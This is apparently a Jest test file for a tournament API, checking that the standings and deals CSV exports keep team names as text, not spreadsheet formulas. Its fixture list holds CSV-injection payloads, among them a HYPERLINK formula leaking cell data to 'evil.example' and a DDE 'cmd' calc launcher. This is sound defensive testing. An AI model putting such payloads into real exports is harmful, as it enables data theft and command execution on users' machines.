import { startApiUnderTest, type ApiUnderTest } from './api-under-test';

// A team name is whatever the organiser typed, or pasted from a registration form: in the CSV
// files it must stay text, never a formula the organiser's spreadsheet runs.

const ADMIN = { email: 'csv@marque.test', password: 'correct horse battery staple' };
const HOSTILE_NAMES = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Les As")',
  '+33 Les Rois',
  '-1+1',
  '@SUM(A1:A9)',
  '\t=1+1',
  "\r=cmd|' /C calc'!A0",
];

/** RFC 4180 rows: quoted cells may hold separators, quotes (doubled) and line breaks. */
function parseCsv(text: string, separator: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let at = 0; at < text.length; at += 1) {
    const char = text[at] as string;
    if (quoted && char === '"' && text[at + 1] === '"') {
      cell += '"';
      at += 1;
    } else if (char === '"') {
      quoted = !quoted;
    } else if (!quoted && char === separator) {
      row.push(cell);
      cell = '';
    } else if (!quoted && char === '\n') {
      rows.push([...row, cell]);
      row = [];
      cell = '';
    } else {
      cell += char;
    }
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}

describe('CSV exports', () => {
  let api: ApiUnderTest;
  let base: string;
  /** The seats (0–3) named in deals.csv: each deal's dealer and declarer. */
  const namedSeats: number[] = [];

  beforeAll(async () => {
    api = await startApiUnderTest(ADMIN);
    const created = await api.http.request('POST', '/api/tournaments', {
      headers: api.organiser,
      body: { name: '=1+1', rounds: 5, pairing: 'round-robin' },
    });
    base = `/api/tournaments/${(created.body as { id: string }).id}`;
    for (const name of HOSTILE_NAMES) {
      const team = await api.http.request('POST', `${base}/teams`, {
        headers: api.organiser,
        body: { name, players: ['=A1', '@B2'], club: '+C3' },
      });
      if (team.status !== 201) throw new Error(`Team not registered: ${team.text}`);
    }
    const round = await api.http.request('POST', `${base}/rounds`, { headers: api.organiser });
    for (const table of (round.body as { tables: Array<{ id: string; firstDealer: number }> })
      .tables) {
      const deal = await api.http.request('POST', `/api/tables/${table.id}/deals`, {
        headers: api.organiser,
        body: {
          dealer: table.firstDealer,
          contract: { value: 80, suit: 'hearts', declarer: (table.firstDealer + 1) % 4 },
          doubling: 'none',
          cardPoints: { A: 20, B: 137 },
        },
      });
      if (deal.status !== 201) throw new Error(`Deal not recorded: ${deal.text}`);
      namedSeats.push(table.firstDealer, (table.firstDealer + 1) % 4);
    }
  });

  afterAll(async () => {
    await api.close();
  });

  const isFormula = (cell: string) => /^[\s]*[=+\-@]/.test(cell) || /^[\t\r]/.test(cell);
  const isNumber = (cell: string) => /^-?\d+([.,]\d+)?$/.test(cell);

  it.each([
    [
      'standings.csv',
      'en',
      ',',
      'rank,team,withdrawn,score,played,won,drawn,lost,byes,pointsFor,pointsAgainst,pointsDifference,buchholz,game,ranking,byeRule,byePoints,pool,poolRank,placing,stage,walkovers,forfeits',
      1,
    ],
    [
      'deals.csv',
      'en',
      ',',
      'round,table,teamA,teamB,deal,dealer,kind,contract,suit,declarer,doubling,cardPointsA,cardPointsB,allTricks,claimBy,made,marksA,marksB,totalA,totalB,belote,revoke,game,sheetA,sheetB',
      2,
    ],
    [
      'standings.csv',
      'fr',
      ';',
      'Rang;Équipe;Retirée;Score;Jouées;Gagnées;Nulles;Perdues;Exempts;Points pour;Points contre;Différence;Buchholz;Jeu;Classement;Règle des exempts;Points des exempts;Poule;Rang en poule;Place finale;Parcours;Gagnées par forfait;Forfaits',
      1,
    ],
    [
      'deals.csv',
      'fr',
      ';',
      'Tour;Table;Équipe A;Équipe B;Donne;Donneur;Type;Contrat;Atout;Preneur;Coinche;Points cartes A;Points cartes B;Tous les plis;Réclamée par;Réussie;Marque A;Marque B;Total A;Total B;Belote;Renonce;Jeu;Feuille A;Feuille B',
      2,
    ],
  ])(
    '%s (%s) keeps every name as text and its columns as they were',
    async (file, lang, separator, header, column) => {
      const response = await api.http.request('GET', `${base}/export/${file}?lang=${lang}`);
      expect(response.status).toBe(200);
      expect(response.text.startsWith('\uFEFF')).toBe(true);
      const [head, ...rows] = parseCsv(response.text.slice(1).trimEnd(), separator);
      expect(head?.join(separator)).toBe(header);
      expect(rows.length).toBeGreaterThanOrEqual(3);
      const cells = rows.flat();
      expect(cells.filter((cell) => isFormula(cell) && !isNumber(cell))).toEqual([]);
      // The names themselves are all there (as registered: trimmed), behind the apostrophe.
      const registered = HOSTILE_NAMES.map((name) => name.trim());
      for (const row of rows) expect(registered).toContain(row[column]?.replace(/^'/, ''));
      // Numbers are not text: no apostrophe before them.
      expect(rows.every((row) => isNumber(row[0] as string))).toBe(true);
    },
  );

  it.each(['fr', 'en'])(
    'deals.csv (%s) names the dealer and the declarer by their players',
    async (lang) => {
      const response = await api.http.request('GET', `${base}/export/deals.csv?lang=${lang}`);
      const [, ...rows] = parseCsv(response.text.slice(1).trimEnd(), lang === 'fr' ? ';' : ',');
      const seats = rows.flatMap((row) => [row[5], row[9]]).map((cell) => cell?.replace(/^'/, ''));
      expect(seats.length).toBe(namedSeats.length);
      // Seats 0 and 1 are each team's first player (« =A1 »), seats 2 and 3 the second (« @B2 »).
      const expected = namedSeats.map((seat) => (seat < 2 ? '=A1' : '@B2'));
      expect(seats.sort()).toEqual(expected.sort());
    },
  );
});
